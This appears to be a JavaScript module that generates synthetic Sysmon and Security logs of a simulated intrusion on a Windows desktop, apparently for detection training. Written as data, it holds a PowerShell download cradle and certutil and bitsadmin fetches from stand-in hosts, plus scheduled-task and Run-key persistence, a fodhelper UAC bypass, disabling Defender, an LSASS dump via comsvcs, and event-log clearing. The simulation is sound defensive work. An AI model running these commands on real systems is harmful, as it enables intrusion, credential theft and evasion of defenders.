/** DESKTOP-HT01, 14:02–14:35: the lure, the download, persistence, elevation, credentials, and the way to the server. */
import { desktopBasics, everyday } from './background.mjs';
import { powershellStart, Security, scriptBlock } from './security.mjs';
import { Sysmon } from './sysmon.mjs';
import { at, DOMAIN_SID, Host } from './world.mjs';

const S32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
export const STAGE = "IEX (Invoke-WebRequest -UseBasicParsing 'http://files.example.com/update/stage.txt').Content";
export const encoded = (script) => Buffer.from(script, 'utf16le').toString('base64');

const STAGE_TEXT = `# 업데이트 확인 (Haetae sample: text only, files.example.com does not serve it)
$dir = 'C:\\ProgramData\\HncUpdate'
New-Item -ItemType Directory -Force -Path $dir | Out-Null
$w = New-Object Net.WebClient
$w.DownloadFile('http://files.example.com/update/list.txt', "$env:TEMP\\upd.ps1")
certutil.exe -urlcache -split -f http://192.0.2.45/update/hncupd.dat $dir\\hncupd.dat
certutil.exe -decode $dir\\hncupd.dat $dir\\hncupd.exe
curl.exe -s -o $dir\\cfg.bin http://files.example.com/update/cfg.bin
bitsadmin.exe /transfer hncjob /download /priority normal http://198.51.100.23/u/plugin.cab $dir\\plugin.cab
Start-Process -WindowStyle Hidden "$dir\\hncupd.exe" -ArgumentList '/q'`;

export function desktop() {
  const host = new Host({
    name: 'DESKTOP-HT01',
    id: 'a3f1c2d4',
    ip: '10.20.30.41',
    seed: 20260317,
    booted: at('08:47:12'),
  });
  const sysmon = new Sysmon(host);
  const security = new Security(host);
  sysmon.onStart = (ms, process) => security.created(ms + 2, process);
  const user = host.logon({ user: '김해태', sid: `${DOMAIN_SID}-1104`, logonId: 0x5d3f1a, ms: at('08:52:30') });
  const high = { ...user, logonId: 0x5d3ee2, integrity: 'High' };
  const basics = desktopBasics(host, user, at('08:52:31'));
  const { explorer, svchost, dcom, services } = basics;
  everyday(sysmon, basics, user, { from: at('13:41:00'), to: at('14:47:00'), count: 34 });
  security.loggedOn(at('13:40:02'), user, 11, { workstation: host.name });
  security.loggedOn(at('13:52:11'), host.system, 5, { elevated: true });
  security.loggedOn(at('14:21:48'), host.system, 5, { elevated: true });

  const home = `C:\\Users\\${user.user}\\`;
  const work = 'C:\\ProgramData\\HncUpdate\\';
  const run = (time, seconds, parent, image, command, more = {}) =>
    sysmon.start(
      at(time),
      { image, command, parent, logon: parent.logon, integrity: parent.integrity, cwd: parent.cwd, ...more },
      seconds,
    );

  // The administrator's own script of every afternoon: PowerShell that is no attack.
  const admin = run(
    '13:55:00',
    21,
    svchost,
    POWERSHELL,
    `"${POWERSHELL}" -NoProfile -File C:\\Tools\\Check-Health.ps1`,
    { logon: host.system },
  );
  powershellStart(host, at('13:55:00.400'), admin);
  scriptBlock(
    host,
    at('13:55:01.020'),
    admin,
    [
      "Get-Service | Where-Object { $_.StartType -eq 'Automatic' -and $_.Status -ne 'Running' } |\n  Select-Object Name, Status | Export-Csv -Encoding utf8 C:\\Tools\\health.csv",
    ],
    { path: 'C:\\Tools\\Check-Health.ps1', id: '5b0e2c1f-6a4d-4c1f-9b7e-0d7f8d7a1001' },
  );
  scriptBlock(
    host,
    at('13:55:04.310'),
    admin,
    ['Get-PSDrive -PSProvider FileSystem | ForEach-Object { "{0} {1:N1} GB" -f $_.Name, ($_.Free / 1GB) }'],
    { path: 'C:\\Tools\\Check-Health.ps1', id: '5b0e2c1f-6a4d-4c1f-9b7e-0d7f8d7a1002' },
  );
  const inventory = Array.from(
    { length: 60 },
    (_, i) =>
      `function Get-Asset${i} { param([string]$Name) Get-CimInstance -ClassName Win32_Product -Filter "Name='$Name'" | Select-Object Name, Version }`,
  ).join('\n');
  scriptBlock(host, at('13:55:09.007'), admin, [inventory.slice(0, 7000), inventory.slice(7000)], {
    path: 'C:\\Tools\\Inventory.psm1',
    id: '5b0e2c1f-6a4d-4c1f-9b7e-0d7f8d7a1003',
  });

  // 1. The lure: a link in a zip that calls itself a PDF.
  const zip = `${home}Downloads\\견적서_2026-03.zip`;
  sysmon.file(at('14:02:19.300'), basics.chrome, zip);
  sysmon.stream(
    at('14:02:19.412'),
    basics.chrome,
    zip,
    '[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://mail.example.com/  HostUrl=https://files.example.com/d/q3 ',
  );
  const unpacker = run(
    '14:02:41.115',
    9,
    explorer,
    'C:\\Program Files\\Bandizip\\Bandizip.exe',
    `"C:\\Program Files\\Bandizip\\Bandizip.exe" x "${zip}"`,
  );
  sysmon.file(at('14:02:42.008'), unpacker, `${home}Downloads\\견적서_2026-03\\견적서_2026-03.pdf.lnk`);
  sysmon.file(at('14:02:42.051'), unpacker, `${home}Downloads\\견적서_2026-03\\견적서_2026-03.pdf`);
  const folder = `${home}Downloads\\견적서_2026-03\\`;
  const lure = run(
    '14:03:08.214',
    4,
    explorer,
    `${S32}cmd.exe`,
    `"${S32}cmd.exe" /c start "" "견적서_2026-03.pdf" & powershell.exe -NoP -W Hidden -EncodedCommand ${encoded(STAGE)}`,
    { cwd: folder },
  );
  run(
    '14:03:08.377',
    1500,
    lure,
    'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe',
    `"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe" "${folder}견적서_2026-03.pdf"`,
  );
  const stage = run(
    '14:03:08.902',
    75,
    lure,
    POWERSHELL,
    `powershell.exe  -NoP -W Hidden -EncodedCommand ${encoded(STAGE)}`,
  );
  powershellStart(host, at('14:03:09.310'), stage);
  scriptBlock(host, at('14:03:09.702'), stage, [STAGE], { id: '0d9bb3a2-7f0f-4f57-8c55-6a1a4e3c2001', warning: true });
  scriptBlock(host, at('14:03:10.655'), stage, [STAGE_TEXT], {
    id: '0d9bb3a2-7f0f-4f57-8c55-6a1a4e3c2002',
    warning: true,
  });
  sysmon.query(at('14:03:10.118'), stage, 'files.example.com', '192.0.2.45');
  sysmon.connect(at('14:03:10.201'), stage, '192.0.2.45', 80, { name: 'files.example.com', service: 'http' });
  sysmon.file(at('14:03:11.020'), stage, `${home}AppData\\Local\\Temp\\upd.ps1`);

  // 2. Four ways to fetch a file.
  const certutil = run(
    '14:03:21.440',
    3,
    stage,
    `${S32}certutil.exe`,
    `"${S32}certutil.exe" -urlcache -split -f http://192.0.2.45/update/hncupd.dat ${work}hncupd.dat`,
  );
  sysmon.connect(at('14:03:21.733'), certutil, '192.0.2.45', 80, { service: 'http' });
  sysmon.file(at('14:03:22.190'), certutil, `${work}hncupd.dat`);
  const decode = run(
    '14:03:29.071',
    1,
    stage,
    `${S32}certutil.exe`,
    `"${S32}certutil.exe" -decode ${work}hncupd.dat ${work}hncupd.exe`,
  );
  sysmon.file(at('14:03:29.284'), decode, `${work}hncupd.exe`);
  const curl = run(
    '14:03:40.515',
    2,
    stage,
    `${S32}curl.exe`,
    `"${S32}curl.exe" -s -o ${work}cfg.bin http://files.example.com/update/cfg.bin`,
  );
  sysmon.query(at('14:03:40.590'), curl, 'files.example.com', '192.0.2.45');
  sysmon.connect(at('14:03:40.644'), curl, '192.0.2.45', 80, { name: 'files.example.com', service: 'http' });
  sysmon.file(at('14:03:41.010'), curl, `${work}cfg.bin`);
  run(
    '14:03:52.260',
    12,
    stage,
    `${S32}bitsadmin.exe`,
    `"${S32}bitsadmin.exe" /transfer hncjob /download /priority normal http://198.51.100.23/u/plugin.cab ${work}plugin.cab`,
  );

  // 3. It starts, and stays: a task, a Run key, a file older than it is.
  const agent = run('14:04:11.906', undefined, stage, `${work}hncupd.exe`, `"${work}hncupd.exe" /q`);
  sysmon.fileTime(at('14:04:12.377'), agent, `${work}hncupd.exe`, '2021-11-02 03:12:44.000');
  const task = run(
    '14:04:18.033',
    1,
    agent,
    `${S32}schtasks.exe`,
    `schtasks /create /sc minute /mo 30 /tn "HncUpdateCheck" /tr "${work}hncupd.exe /q" /f`,
  );
  sysmon.registry(
    at('14:04:18.270'),
    svchost,
    'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\HncUpdateCheck\\Id',
    '{6E1B3A52-09C4-4E0B-8D3F-2B1F6C9D7A10}',
  );
  security.task(
    at('14:04:18.291'),
    user,
    task,
    '\\HncUpdateCheck',
    taskXml(`${work}hncupd.exe`, '/q', 'PT30M', user.account),
  );
  const reg = run(
    '14:04:22.518',
    1,
    agent,
    `${S32}reg.exe`,
    `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v HncUpdateCheck /t REG_SZ /d "${work}hncupd.exe /q" /f`,
  );
  sysmon.registry(
    at('14:04:22.604'),
    reg,
    `HKU\\${user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\HncUpdateCheck`,
    `${work}hncupd.exe /q`,
  );

  // 4. Looking around, and calling home every minute or so.
  const shell = run(
    '14:05:01.200',
    40,
    agent,
    `${S32}cmd.exe`,
    `${S32}cmd.exe /q /c whoami /all & net user /domain & net group "Domain Admins" /domain & nltest /dclist:haetae.example & systeminfo`,
  );
  run('14:05:01.402', 1, shell, `${S32}whoami.exe`, 'whoami  /all');
  for (const [time, what] of [
    ['14:05:03.118', 'user /domain'],
    ['14:05:06.977', 'group "Domain Admins" /domain'],
  ]) {
    const net = run(time, 2, shell, `${S32}net.exe`, `net  ${what}`);
    run(time.replace(/\d$/, '9'), 2, net, `${S32}net1.exe`, `${S32}net1  ${what}`);
  }
  run('14:05:11.310', 3, shell, `${S32}nltest.exe`, 'nltest  /dclist:haetae.example');
  run('14:05:15.842', 14, shell, `${S32}systeminfo.exe`, 'systeminfo');
  for (
    let ms = at('14:04:40');
    ms < at('14:34:00');
    ms += 60_000 * host.random.int(2, 4) + host.random.int(-900, 900)
  ) {
    sysmon.connect(ms, agent, '198.51.100.23', 443, { service: 'https' });
  }

  // 5. Elevation without a question, Defender off, LSASS read.
  const key = `HKU\\${user.sid}_Classes\\ms-settings\\shell\\open\\command\\`;
  const hijack = run(
    '14:08:30.101',
    1,
    agent,
    `${S32}reg.exe`,
    `reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /t REG_SZ /d "${work}hncupd.exe /e" /f`,
  );
  sysmon.registry(at('14:08:30.166'), hijack, `${key}(Default)`, `${work}hncupd.exe /e`);
  const delegate = run(
    '14:08:31.044',
    1,
    agent,
    `${S32}reg.exe`,
    'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /v DelegateExecute /t REG_SZ /d "" /f',
  );
  sysmon.registry(at('14:08:31.120'), delegate, `${key}DelegateExecute`, '(Empty)');
  const helper = run('14:08:33.507', 6, agent, `${S32}fodhelper.exe`, `"${S32}fodhelper.exe"`, {
    logon: high,
    integrity: 'High',
  });
  const elevated = run('14:08:34.220', undefined, helper, `${work}hncupd.exe`, `"${work}hncupd.exe" /e`, { cwd: S32 });
  const defender = run(
    '14:09:10.775',
    7,
    elevated,
    POWERSHELL,
    'powershell.exe -c "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData\\HncUpdate"',
  );
  powershellStart(host, at('14:09:11.120'), defender);
  scriptBlock(
    host,
    at('14:09:11.508'),
    defender,
    ['Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData\\HncUpdate'],
    { id: '0d9bb3a2-7f0f-4f57-8c55-6a1a4e3c2003' },
  );
  const dump = run(
    '14:09:44.608',
    3,
    elevated,
    `${S32}rundll32.exe`,
    `rundll32.exe ${S32}comsvcs.dll, MiniDump ${security.lsass.pid} ${work}o.tmp full`,
  );
  const trace = 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|';
  sysmon.access(
    at('14:09:44.902'),
    dump,
    security.lsass,
    0x1fffff,
    `${trace}C:\\Windows\\System32\\comsvcs.dll+27c5c|C:\\Windows\\System32\\rundll32.exe+3a4f`,
  );
  sysmon.file(at('14:09:45.370'), dump, `${work}o.tmp`);
  sysmon.access(at('14:09:58.016'), elevated, security.lsass, 0x1010, `${trace}UNKNOWN(00007FF6A1B2C3D4)`);
  // What security software and Windows do with LSASS all day, for comparison.
  sysmon.access(
    at('14:12:03.447'),
    services,
    security.lsass,
    0x1000,
    `${trace}C:\\Windows\\System32\\services.exe+1b2a0`,
  );

  // 6. On to the server: passwords tried from here (see SRV-FILE01), a share, a desktop.
  run('14:18:02.310', 2, elevated, `${S32}net.exe`, 'net use \\\\SRV-FILE01\\C$ /user:HAETAE\\svc-backup *');
  const smb = host.process({ image: 'System', command: 'System', pid: 4 });
  for (const time of ['14:14:01.600', '14:17:33.050', '14:18:02.402'])
    sysmon.connect(at(time), smb, '10.20.30.10', 445, { name: 'SRV-FILE01.haetae.example', service: 'microsoft-ds' });
  const mstsc = run('14:19:04.900', 780, elevated, `${S32}mstsc.exe`, 'mstsc.exe /v:SRV-FILE01 /restrictedAdmin');
  sysmon.connect(at('14:19:05.320'), mstsc, '10.20.30.10', 3389, {
    name: 'SRV-FILE01.haetae.example',
    service: 'ms-wbt-server',
  });

  // 7. Traces away.
  const cleanup = run(
    '14:33:20.090',
    3,
    elevated,
    `${S32}cmd.exe`,
    `${S32}cmd.exe /q /c wevtutil cl System & wevtutil cl Application & del /f /q ${work}o.tmp`,
  );
  run('14:33:20.260', 1, cleanup, `${S32}wevtutil.exe`, 'wevtutil  cl System');
  run('14:33:20.930', 1, cleanup, `${S32}wevtutil.exe`, 'wevtutil  cl Application');
  run(
    '14:35:00.004',
    2,
    dcom,
    `${S32}dllhost.exe`,
    `${S32}DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}`,
    { logon: user },
  );
  return { host };
}

/** The XML that Task Scheduler registers. */
export function taskXml(command, args, interval, author) {
  return `<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo>\r\n    <Author>${author}</Author>\r\n  </RegistrationInfo>\r\n  <Triggers>\r\n    <TimeTrigger>\r\n      <Repetition>\r\n        <Interval>${interval}</Interval>\r\n      </Repetition>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>\r\n  </Triggers>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>${command}</Command>\r\n      <Arguments>${args}</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>`;
}
